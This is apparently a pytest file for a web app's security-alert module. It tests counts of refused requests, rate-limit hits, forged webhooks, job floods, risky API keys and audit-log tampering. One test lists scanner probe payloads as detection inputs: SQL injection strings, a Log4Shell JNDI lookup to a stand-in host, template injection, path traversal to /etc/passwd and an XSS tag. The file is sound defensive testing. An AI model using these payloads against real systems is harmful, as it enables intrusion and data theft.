"""Refusals, floods and probes, from real rows: what is unusual is seen, and what is usual is not."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from sqlalchemy import Engine

from app import audit, clock
from app.alerts import suspicions
from app.alerts.measures import Limits, Reading
from app.audit import chain, verify
from app.db import db
from tests import acting
from tests.app.audit.tampering import behind_its_back, written

LIMITS = Limits()
DAY = timedelta(days=1)


@pytest.fixture(autouse=True)
def clean(quick: Engine) -> None:
    """Nothing of other tests."""
    with db.quick():
        db.run("DELETE FROM api_access")


def values(readings: list[Reading]) -> dict[str, float]:
    return {reading.subject: reading.value for reading in readings}


def answered(
    status: int, count: int, who: str = "ada", *, ip: str = "192.0.2.7", endpoint: str = "/x", ago: str = "0"
) -> None:
    db.run(
        """INSERT INTO api_access (minute, actor, method, endpoint, status, ip, count)
           VALUES (date_trunc('minute', now() - %(ago)s::interval), %(who)s, 'GET', %(endpoint)s, %(status)s, %(ip)s,
                   %(count)s)""",
        who=who,
        endpoint=endpoint,
        status=status,
        ip=ip,
        count=count,
        ago=ago,
    )


def worked(who: str, jobs: int, *, days_ago: int) -> None:
    db.run(
        """INSERT INTO job_rollups (step, at, agent_id, submitted_by, completed, failed, cancelled, run_seconds,
                                    wait_seconds, started)
           VALUES (3600, date_trunc('hour', now() - %(days)s * interval '1 day'), 'test-noop', %(who)s, %(jobs)s, 0, 0,
                   0, 0, 0)""",
        who=who,
        jobs=jobs,
        days=days_ago,
    )


def sent(who: str, count: int, **parameters: Any) -> list[str]:
    return [acting.submitted(submitted_by=who, parameters=parameters) for _ in range(count)]


def test_what_a_role_does_not_allow_is_counted_by_account_over_five_minutes() -> None:
    with db.quick():
        answered(403, 12)
        answered(403, 13, endpoint="/y")
        answered(403, 3, "bob")
        answered(403, 9, "")
        answered(200, 900, "bob")
        answered(403, 900, "eve", ago="6 minutes")
        found = suspicions.refused(LIMITS)
    assert values(found) == {"ada": 25, "bob": 3}
    assert found[0].about == "at 2 endpoints"


def test_what_is_over_the_limits_is_counted_by_address_where_nobody_is_known() -> None:
    with db.quick():
        answered(429, 300, "")
        answered(429, 5, "ada")
        assert values(suspicions.limited(LIMITS)) == {"192.0.2.7": 300, "ada": 5}


def test_webhooks_with_wrong_signatures_are_counted_by_address() -> None:
    with db.quick():
        answered(401, 25, "", endpoint="/hooks/<slug>")
        answered(401, 5, "", endpoint="/api/v1/webhooks/github")
        answered(401, 900, "", endpoint="/api/v1/jobs")
        answered(202, 900, "", endpoint="/hooks/<slug>")
        assert values(suspicions.forged(LIMITS)) == {"192.0.2.7": 30}


def test_many_jobs_are_a_flood_only_for_those_who_never_send_so_many() -> None:
    with db.quick():
        worked("steady", 120, days_ago=1)  # 10 in five minutes
        worked("steady", 120, days_ago=2)
        worked("long-ago", 12_000, days_ago=9)
        sent("steady", 12)
        sent("long-ago", 12)
        sent("newcomer", 3)
        found = suspicions.flood(LIMITS)
    assert values(found) == {"long-ago": 12, "newcomer": 3}
    assert found[0].about == "usually 0 in a busy five minutes"


def test_a_job_of_an_hour_ago_is_no_flood() -> None:
    with db.quick():
        sent("ada", 2)
        assert suspicions.senders(timedelta(seconds=-1)) == []
        assert [row["jobs"] for row in suspicions.senders(timedelta(minutes=1))] == [2]


@pytest.mark.parametrize(
    "probe",
    [
        "x' OR '1'='1",
        "1 union all select password from users",
        "'; DROP TABLE jobs; --",
        "1; select pg_sleep(10)",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "../../../../etc/passwd",
        "<script>alert(1)</script>",
    ],
)
def test_probes_of_scanners_are_seen(probe: str) -> None:
    with db.quick():
        (job_id,) = sent("eve", 1, text=f"About {probe} and more")
        assert suspicions.probes(LIMITS) == [Reading("eve", 1, f"for instance job {job_id}")]


@pytest.mark.parametrize(
    "text",
    [
        "Select the union of both tables or drop it",
        "It's 1 or 2 = fine; write a script about tables",
        "SELECT name FROM users WHERE id = 7",
        "{{ topic }} and {{ steps.a.output }} in ../docs/readme.md",
        "O'Reilly and O'Brien",
    ],
)
def test_what_people_write_is_no_probe(text: str) -> None:
    with db.quick():
        sent("ada", 1, text=text)
        assert suspicions.probes(LIMITS) == []


def test_the_page_reads_sign_ins_refusals_keys_and_what_admins_did() -> None:
    since = clock.now() - DAY
    with db.transaction():
        for number in range(4):
            audit.record("auth.failed", actor=f"name{number}", details={"ip": "192.0.2.7"})
        audit.record("auth.limited", actor="", details={"ip": "192.0.2.7"})
        audit.record("auth.signed_in", actor="ada", details={"ip": "192.0.2.9"})
        audit.record("job.submitted", actor="ada", subject="some-job")
        audit.record("provider.changed", actor="root", subject="openai")
        audit.record("user.created", actor="root", subject="bob")
        answered(403, 7)
        answered(429, 2, "")
        answered(200, 99)
    with db.quick():
        assert suspicions.sign_ins(since) == {"failed": 4, "limited": 1, "signed_in": 1, "locked": 0}
        (address,) = suspicions.failed_by_address(since)
        assert (address["address"], address["failed"], address["names"]) == ("192.0.2.7", 5, 4)
        assert address["tried"] == ["name0", "name1", "name2"]
        assert suspicions.totals(since) == {401: 0, 403: 7, 429: 2}
        assert [(row["status"], row["who"], row["times"]) for row in suspicions.answers(since)] == [
            (403, "ada", 7),
            (429, "", 2),
        ]
        assert [row["action"] for row in suspicions.privileged()] == ["user.created", "provider.changed"]
        hours = suspicions.by_hour(since)
        assert len(hours) == 24
        assert (hours[-1]["failed"], hours[-1]["refused"]) == (5, 9)


def test_keys_that_call_for_a_look(quick: Engine) -> None:
    with db.quick():
        db.run(
            """INSERT INTO users (user_id, email, role) VALUES
               ('00000000-0000-7000-8000-0000000000aa', 'ada@example.org', 'user')"""
        )
        db.run(
            """INSERT INTO api_keys (key_id, user_id, name, secret_sha256, scopes, created_at, expires_at, revoked_at,
                                     last_used_at)
               SELECT 'keynum0' || n, '00000000-0000-7000-8000-0000000000aa', 'k', sha256('x'), '{read}',
                      now() - made * interval '1 day', now() + expires * interval '1 day',
                      now() - revoked * interval '1 day', now() - used * interval '1 day'
               FROM (VALUES (1, 1, 30, NULL::int, 0), (2, 100, NULL, NULL, 1), (3, 200, NULL, NULL, NULL),
                            (4, 300, NULL, 2, NULL), (5, 10, -1, NULL, 2)) AS k(n, made, expires, revoked, used)"""
        )
        assert suspicions.keys_at_risk() == {"living": 3, "endless": 2, "old": 2, "unused": 1}


def test_a_broken_chain_is_seen_once_it_was_verified_and_what_is_not_sealed_is_seen_at_once() -> None:
    with db.transaction():
        assert suspicions.tampered(LIMITS) == []
        first, *_ = written(3)
        chain.seal()
        assert suspicions.unsealed(LIMITS) == []
        verify.note(verify.verify(), actor="test")
        assert suspicions.tampered(LIMITS) == []
        behind_its_back("UPDATE audit_log SET actor = 'eve' WHERE id = %(id)s", id=first)
        verify.note(verify.verify(), actor="test")
        (found,) = suspicions.tampered(LIMITS)
        (waiting,) = suspicions.unsealed(LIMITS)
    assert (found.value, waiting.value < 60) == (1, True)
